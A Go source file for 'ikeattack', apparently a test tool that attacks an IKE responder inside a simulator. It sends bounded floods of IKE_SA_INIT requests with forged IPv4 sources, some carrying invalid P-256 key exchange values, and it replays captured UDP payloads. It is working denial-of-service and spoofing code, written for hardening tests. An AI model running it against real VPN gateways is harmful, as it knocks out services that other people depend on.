// Command ikeattack plays an attacker on the simulated internet against an
// IKE responder, for the hardening end-to-end tests and the benchmark:
//
//	ikeattack flood  -src ADDR -dst ADDR [-kind badke|validke] [-count N] [-rate PPS]
//	ikeattack replay -from ADDR:PORT -to ADDR:PORT -hex PAYLOAD [-count N] [-interval D]
//
// flood sends IKE_SA_INIT requests (UDP 500 -> 500, a fresh SPIi and nonce
// each) with a forged IPv4 source address through a raw socket: with
// -kind badke the KE payload is 64 bytes that are no point on P-256 (an
// unusable public value, found only after the responder has spent its own
// exponentiation); with -kind validke it is one real P-256 public value,
// generated once and reused, so each request is a valid handshake start.
// The SA payload offers AES-GCM-16-128 / PRF-HMAC-SHA2-256 / group 19, what
// cgwd and AWS accept by default.
//
// replay sends PAYLOAD (hex, the UDP payload exactly as captured, non-ESP
// marker included on port 4500) count times from a local address and port.
//
// Both are bounded: count is at most 100000, the rate at most 100000/s, and
// the command stops by itself. It prints one summary line, "sent=N
// elapsed=D". It is a test tool: run it only inside the simulator's
// network namespaces.
package main

import (
	"crypto/ecdh"
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"flag"
	"fmt"
	mrand "math/rand/v2"
	"net"
	"net/netip"
	"os"
	"syscall"
	"time"
)

const (
	maxCount = 100000
	maxRate  = 100000
)

func main() {
	if len(os.Args) < 2 {
		usage()
	}
	var err error
	switch os.Args[1] {
	case "flood":
		err = flood(os.Args[2:])
	case "replay":
		err = replay(os.Args[2:])
	default:
		usage()
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "ikeattack:", err)
		os.Exit(1)
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, "usage: ikeattack flood -src ADDR -dst ADDR [-kind badke|validke] [-count N] [-rate PPS]\n       ikeattack replay -from ADDR:PORT -to ADDR:PORT -hex PAYLOAD [-count N] [-interval D]")
	os.Exit(2)
}

func flood(args []string) error {
	fs := flag.NewFlagSet("flood", flag.ExitOnError)
	src := fs.String("src", "", "forged IPv4 source address")
	dst := fs.String("dst", "", "IPv4 address of the responder")
	kind := fs.String("kind", "badke", "badke (unusable KE value) or validke (a real P-256 public value)")
	count := fs.Int("count", 7000, "requests to send")
	rate := fs.Int("rate", 500, "requests per second")
	fs.Parse(args)
	s, err1 := netip.ParseAddr(*src)
	d, err2 := netip.ParseAddr(*dst)
	if err := errors.Join(err1, err2); err != nil || !s.Is4() || !d.Is4() {
		return fmt.Errorf("flood: -src and -dst must be IPv4 addresses (got %q, %q)", *src, *dst)
	}
	if *count < 1 || *count > maxCount || *rate < 1 || *rate > maxRate {
		return fmt.Errorf("flood: -count must be 1..%d and -rate 1..%d", maxCount, maxRate)
	}
	ke, err := keValue(*kind)
	if err != nil {
		return err
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return fmt.Errorf("flood: raw socket (needs root): %w", err)
	}
	defer syscall.Close(fd)
	to := &syscall.SockaddrInet4{Addr: d.As4()}
	buf := make([]byte, 0, 512)
	interval := time.Second / time.Duration(*rate)
	start := time.Now()
	sent := 0
	for i := 0; i < *count; i++ {
		// Pace against the start time so that scheduling delays do not
		// lower the average rate.
		if wait := time.Until(start.Add(time.Duration(i) * interval)); wait > 0 {
			time.Sleep(wait)
		}
		buf = ipv4UDP(buf[:0], s, d, 500, 500, saInit(ke))
		if err := syscall.Sendto(fd, buf, 0, to); err != nil {
			if errors.Is(err, syscall.ENOBUFS) || errors.Is(err, syscall.EAGAIN) {
				continue // the local queue is full: the packet is lost, as on a wire
			}
			return fmt.Errorf("flood: send: %w", err)
		}
		sent++
	}
	fmt.Printf("sent=%d elapsed=%v\n", sent, time.Since(start).Round(time.Millisecond))
	return nil
}

// keValue returns the 64-byte group 19 KE data of kind.
func keValue(kind string) ([]byte, error) {
	switch kind {
	case "badke":
		// x = y = 2^256-1 is not a field element, let alone a point.
		b := make([]byte, 64)
		for i := range b {
			b[i] = 0xff
		}
		return b, nil
	case "validke":
		k, err := ecdh.P256().GenerateKey(rand.Reader)
		if err != nil {
			return nil, err
		}
		return k.PublicKey().Bytes()[1:], nil // drop the 0x04 SEC1 prefix
	}
	return nil, fmt.Errorf("flood: -kind %q: want badke or validke", kind)
}

// IKEv2 numbers (RFC 7296, IANA).
const (
	plNone, plSA, plKE, plNonce = 0, 33, 34, 40
	exchIKESAInit               = 34
	flagInitiator               = 0x08
	trENCR, trPRF, trDH         = 1, 2, 4
	encrAESGCM16, prfSHA256     = 20, 5
	groupECP256                 = 19
)

// saInit builds one IKE_SA_INIT request with a fresh SPIi and nonce.
func saInit(ke []byte) []byte {
	var b []byte
	b = binary.BigEndian.AppendUint64(b, mrand.Uint64()|1) // SPIi, never 0
	b = binary.BigEndian.AppendUint64(b, 0)                // SPIr
	b = append(b, plSA, 0x20, exchIKESAInit, flagInitiator)
	b = binary.BigEndian.AppendUint32(b, 0) // message ID
	lenAt := len(b)
	b = binary.BigEndian.AppendUint32(b, 0) // length, set below

	// SA: one IKE proposal, three transforms (RFC 7296, Section 3.3).
	transforms := transform(nil, 3, trENCR, encrAESGCM16, []byte{0x80, 0x0e, 0x00, 0x80}) // key length 128
	transforms = transform(transforms, 3, trPRF, prfSHA256, nil)
	transforms = transform(transforms, 0, trDH, groupECP256, nil)
	prop := []byte{0, 0, 0, 0, 1, 1, 0, 3} // last, reserved, length, #1, IKE, SPI size 0, 3 transforms
	binary.BigEndian.PutUint16(prop[2:], uint16(8+len(transforms)))
	prop = append(prop, transforms...)
	b = payload(b, plKE, prop)

	kePl := binary.BigEndian.AppendUint16(nil, groupECP256)
	kePl = append(kePl, 0, 0)
	kePl = append(kePl, ke...)
	b = payload(b, plNonce, kePl)

	nonce := make([]byte, 32)
	for i := 0; i < len(nonce); i += 8 {
		binary.BigEndian.PutUint64(nonce[i:], mrand.Uint64())
	}
	b = payload(b, plNone, nonce)
	binary.BigEndian.PutUint32(b[lenAt:], uint32(len(b)))
	return b
}

func payload(b []byte, next byte, body []byte) []byte {
	b = append(b, next, 0)
	b = binary.BigEndian.AppendUint16(b, uint16(4+len(body)))
	return append(b, body...)
}

func transform(b []byte, more, typ byte, id uint16, attrs []byte) []byte {
	b = append(b, more, 0)
	b = binary.BigEndian.AppendUint16(b, uint16(8+len(attrs)))
	b = append(b, typ, 0)
	b = binary.BigEndian.AppendUint16(b, id)
	return append(b, attrs...)
}

// ipv4UDP appends an IPv4 header (the kernel fills in the checksum and ID
// for IPPROTO_RAW sockets), a UDP header with its checksum and data.
func ipv4UDP(b []byte, src, dst netip.Addr, sport, dport uint16, data []byte) []byte {
	total := 20 + 8 + len(data)
	b = append(b, 0x45, 0)
	b = binary.BigEndian.AppendUint16(b, uint16(total))
	b = append(b, 0, 0, 0x40, 0, 64, syscall.IPPROTO_UDP, 0, 0) // ID, DF, TTL, proto, checksum
	s, d := src.As4(), dst.As4()
	b = append(b, s[:]...)
	b = append(b, d[:]...)
	udp := len(b)
	b = binary.BigEndian.AppendUint16(b, sport)
	b = binary.BigEndian.AppendUint16(b, dport)
	b = binary.BigEndian.AppendUint16(b, uint16(8+len(data)))
	b = append(b, 0, 0)
	b = append(b, data...)
	// Checksum over the pseudo-header and the UDP datagram.
	var sum uint32
	add := func(p []byte) {
		for i := 0; i+1 < len(p); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(p[i:]))
		}
		if len(p)%2 == 1 {
			sum += uint32(p[len(p)-1]) << 8
		}
	}
	add(s[:])
	add(d[:])
	sum += syscall.IPPROTO_UDP + uint32(8+len(data))
	add(b[udp:])
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	cs := ^uint16(sum)
	if cs == 0 {
		cs = 0xffff
	}
	binary.BigEndian.PutUint16(b[udp+6:], cs)
	return b
}

func replay(args []string) error {
	fs := flag.NewFlagSet("replay", flag.ExitOnError)
	from := fs.String("from", "", "local ADDR:PORT to send from (must be configured in this namespace)")
	to := fs.String("to", "", "ADDR:PORT of the victim")
	payloadHex := fs.String("hex", "", "UDP payload to replay, hex")
	count := fs.Int("count", 50, "copies to send")
	interval := fs.Duration("interval", 100*time.Millisecond, "pause between copies")
	fs.Parse(args)
	laddr, err1 := netip.ParseAddrPort(*from)
	raddr, err2 := netip.ParseAddrPort(*to)
	data, err3 := hex.DecodeString(*payloadHex)
	if err := errors.Join(err1, err2, err3); err != nil {
		return fmt.Errorf("replay: %w", err)
	}
	if len(data) == 0 || *count < 1 || *count > maxCount || *interval < time.Millisecond {
		return fmt.Errorf("replay: need a payload, -count 1..%d and -interval of at least 1ms", maxCount)
	}
	c, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(laddr))
	if err != nil {
		return fmt.Errorf("replay: %w", err)
	}
	defer c.Close()
	start := time.Now()
	for i := 0; i < *count; i++ {
		if i > 0 {
			time.Sleep(*interval)
		}
		if _, err := c.WriteToUDPAddrPort(data, raddr); err != nil {
			return fmt.Errorf("replay: send %d: %w", i+1, err)
		}
	}
	fmt.Printf("sent=%d elapsed=%v\n", *count, time.Since(start).Round(time.Millisecond))
	return nil
}
